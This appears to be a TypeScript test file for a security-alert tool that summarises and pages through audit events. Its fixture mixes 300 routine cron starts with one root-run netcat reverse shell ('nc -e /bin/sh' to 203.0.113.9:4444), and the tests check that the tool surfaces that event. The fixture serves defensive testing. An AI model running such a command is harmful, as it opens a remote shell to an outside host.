import { expect, test } from "vitest";
import { makeAlert, makeTenant, NOW } from "../support/make-tenant.ts";
import { startTools } from "../support/start-tools.ts";

const ALERT = "2abca110-cb87-41ea-b55e-4f5cfb08a8d1";

/** 300 routine starts of cron and one of netcat. */
const events = Array.from({ length: 301 }, (_, index) => ({
  _id: `${String(index).padStart(8, "0")}-0000-4000-8000-000000000000`,
  event_type: "audit",
  type: "start",
  syscall: "execve",
  timestamp: NOW - 1_000_000 + index * 1000,
  user: index === 150 ? "root" : "app",
  exe: index === 150 ? "/usr/bin/nc" : "/usr/sbin/cron",
  command: index === 150 ? "nc" : "cron",
  arguments: index === 150 ? "nc -e /bin/sh 203.0.113.9 4444" : `cron --job ${index}`,
  pid: 1000 + index,
}));

const tenant = makeTenant({
  alerts: [makeAlert({ id: ALERT, ruleId: "", agentId: "" })],
  events: { [ALERT]: events },
});

test("folds every event into a digest that names the one that matters", async () => {
  const { call } = await startTools({ tenant });

  const { text, meta } = await call("threatstack_get_events", { alert_id: ALERT });

  expect(text).toMatch(/^301 events/m);
  expect(text).toContain("nc -e /bin/sh 203.0.113.9 4444");
  expect(meta.total).toBe(301);
});

test.each([300, 500, 1000])(
  "a digest of %i tokens holds to it and still names it",
  async (budget) => {
    const { call } = await startTools({ tenant });

    const { text, tokens } = await call("threatstack_get_events", {
      alert_id: ALERT,
      max_tokens: budget,
    });

    expect(tokens).toBeLessThanOrEqual(budget);
    expect(text).toMatch(/nc -e/);
  },
);

test("rows reach every event once, in order, whatever the budget", async () => {
  const { call } = await startTools({ tenant });
  const seen: string[] = [];
  let cursor: string | null | undefined;
  do {
    const { text, meta, tokens } = await call("threatstack_get_events", {
      alert_id: ALERT,
      detail: "rows",
      max_tokens: 1500,
      ...(cursor && { cursor }),
    });
    expect(tokens).toBeLessThanOrEqual(1500);
    expect(meta.total).toBe(301);
    seen.push(...text.split("\n").flatMap((line) => /^[\d:]{8},(\d{8}),/.exec(line)?.[1] ?? []));
    cursor = meta.next_cursor;
  } while (cursor);

  expect(seen).toEqual(events.map(({ _id: id }) => id.slice(0, 8)));
});

test("a filter, a group or an id opens a part, and asking again costs no download", async () => {
  const { call, requests } = await startTools({ tenant });

  const where = await call("threatstack_get_events", {
    alert_id: ALERT,
    where: 'user = "root" and exe ends_with "nc"',
  });
  expect(where.meta).toMatchObject({ total: 1, shown: 1, ids: ["00000150"] });

  const digest = await call("threatstack_get_events", { alert_id: ALERT });
  const [, count, group] = /^(\d+)× (g\w+)/m.exec(digest.text) ?? [];
  const ofGroup = await call("threatstack_get_events", { alert_id: ALERT, group });
  expect(ofGroup.meta.total).toBe(Number(count));

  const raw = await call("threatstack_get_events", { alert_id: ALERT, event_ids: ["00000150"] });
  expect(raw.text).toContain(JSON.stringify(events[150]));
  // The events, their alert, and the inventory for the addresses in them.
  expect(requests()).toBe(4);
});

test.each([
  [{ where: "user ==" }, /^where, character 6: /],
  [{ group: {} }, /^group: /],
  [{ detail: "all" }, /^detail: /],
  [{ detail: "rows", cursor: "bogus" }, /cursor/],
  [{ cursor: "bogus" }, /cursor/],
  [{ detail: "digest", cursor: "bogus" }, /not a cursor of a digest/],
  [{ detail: "rows", cursor: "n3.1" }, /the cursor of a digest, not of rows/],
])("%j is refused", async (input, message) => {
  const { call } = await startTools({ tenant });

  await expect(call("threatstack_get_events", { alert_id: ALERT, ...input })).rejects.toMatchObject(
    {
      code: "invalid_argument",
      message: expect.stringMatching(message),
    },
  );
});

test("a near miss of a field is told, not guessed", async () => {
  const { call } = await startTools({ tenant });

  const { text } = await call("threatstack_get_events", { alert_id: ALERT, where: 'usr = "root"' });

  expect(text).toContain('note: "usr" may mean "user"');
  expect(text).toMatch(/^0 of 301 events fit \(where usr = "root"\)/);
});

test("an alert without events says so", async () => {
  const { call } = await startTools({ tenant: makeTenant({ alerts: [makeAlert({ id: ALERT })] }) });

  const { text, meta } = await call("threatstack_get_events", { alert_id: ALERT });

  expect(text).toMatch(/^0 events/);
  expect(meta.total).toBe(0);
});

test.each([{ group: "gnone" }, { event_ids: ["no-such"] }, { where: 'user = "nobody here"' }])(
  "%j, which no event fits, is answered with the likely cause and the next call",
  async (input) => {
    const { call } = await startTools({ tenant });

    const { text, meta } = await call("threatstack_get_events", { alert_id: ALERT, ...input });

    expect(text).toMatch(
      /^0 of 301 events fit \(.+\)\. All were searched\.\n(The|A) .+ may .+\nnext: threatstack_get_events /,
    );
    expect(meta).toMatchObject({ total: 0, shown: 0, truncated: false });
  },
);

test("the alert tells the span of its events once they were read", async () => {
  const { call } = await startTools({ tenant });

  const before = await call("threatstack_get_alert", { alert_id: ALERT });
  await call("threatstack_get_events", { alert_id: ALERT });
  const after = await call("threatstack_get_alert", { alert_id: ALERT });

  expect(before.text).not.toMatch(/^events: /m);
  expect(after.text).toMatch(/^events: 301, \S+ \S+\.\.\S+ \(5m\)$/m);
});
